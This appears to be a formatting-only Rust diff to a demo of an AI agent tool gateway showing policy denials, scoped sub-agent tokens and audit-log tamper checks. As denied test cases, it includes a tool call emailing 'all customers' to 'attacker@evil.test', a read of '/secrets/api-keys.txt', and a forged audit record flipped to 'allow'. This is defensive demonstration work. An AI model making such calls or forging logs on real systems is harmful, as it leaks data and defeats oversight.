@@ -182,9 +182,15 @@ pub async fn run(dir: Option<PathBuf>) -> Result<()> {
     s.step("Allowed: CRM lookup");
     println!("    {}", outcome(&bot.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1001" })).await?));
     s.step("Allowed: internal email");
-    println!("    {}", outcome(&bot.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "New customer", "body": "c-1001 signed up" })).await?));
+    println!(
+        "    {}",
+        outcome(&bot.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "New customer", "body": "c-1001 signed up" })).await?)
+    );
     s.step("Denied by policy: email to an outside address (exfiltration guardrail)");
-    println!("    {}", outcome(&bot.call_tool("onboarding__email_send", json!({ "to": "attacker@evil.test", "subject": "dump", "body": "all customers" })).await?));
+    println!(
+        "    {}",
+        outcome(&bot.call_tool("onboarding__email_send", json!({ "to": "attacker@evil.test", "subject": "dump", "body": "all customers" })).await?)
+    );
     s.step("Denied by policy: reading /secrets");
     println!("    {}", outcome(&bot.call_tool("onboarding__file_read", json!({ "path": "/secrets/api-keys.txt" })).await?));
     s.step("Out of scope: payment_transfer was never granted (403 insufficient_scope)");
@@ -196,7 +202,10 @@ pub async fn run(dir: Option<PathBuf>) -> Result<()> {
     let ht = helper.exchange(bot.token.as_deref().expect("token"), None).await?;
     println!("    sub-agent scope=\"{}\" expires_in={}s", ht.scope, ht.expires_in);
     helper.initialize().await?;
-    println!("    email_send:      {}", outcome(&helper.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "hi", "body": "welcome" })).await?));
+    println!(
+        "    email_send:      {}",
+        outcome(&helper.call_tool("onboarding__email_send", json!({ "to": "ops@example.com", "subject": "hi", "body": "welcome" })).await?)
+    );
     println!("    customer_lookup: {}", outcome(&helper.call_tool("onboarding__customer_lookup", json!({ "customer_id": "c-1001" })).await?));
 
     s.step("Expired token: signed by the gateway key but past its exp");
@@ -240,8 +249,18 @@ pub async fn run(dir: Option<PathBuf>) -> Result<()> {
     let report = crate::audit_cmd::verify_store(&store, &key).await?.map_err(|e| anyhow::anyhow!("{e}"))?;
     println!("    verify: OK — {} records, head {}…", report.records, &report.head.hash[..16]);
     let recs = store.read_audit(0, 1000).await?;
-    let victim = recs.into_iter().filter_map(Result::ok).find(|r| r.event.decision == "deny" && r.event.reason.as_deref().is_some_and(|x| x.contains("outside example.com"))).context("the denied email is audited")?;
-    println!("    record {}: {} {} -> {}", victim.seq, victim.event.tool.as_deref().unwrap_or("-"), victim.event.decision, victim.event.reason.as_deref().unwrap_or(""));
+    let victim = recs
+        .into_iter()
+        .filter_map(Result::ok)
+        .find(|r| r.event.decision == "deny" && r.event.reason.as_deref().is_some_and(|x| x.contains("outside example.com")))
+        .context("the denied email is audited")?;
+    println!(
+        "    record {}: {} {} -> {}",
+        victim.seq,
+        victim.event.tool.as_deref().unwrap_or("-"),
+        victim.event.decision,
+        victim.event.reason.as_deref().unwrap_or("")
+    );
     let mut forged = victim.clone();
     forged.event.decision = "allow".into();
     forged.event.reason = None;
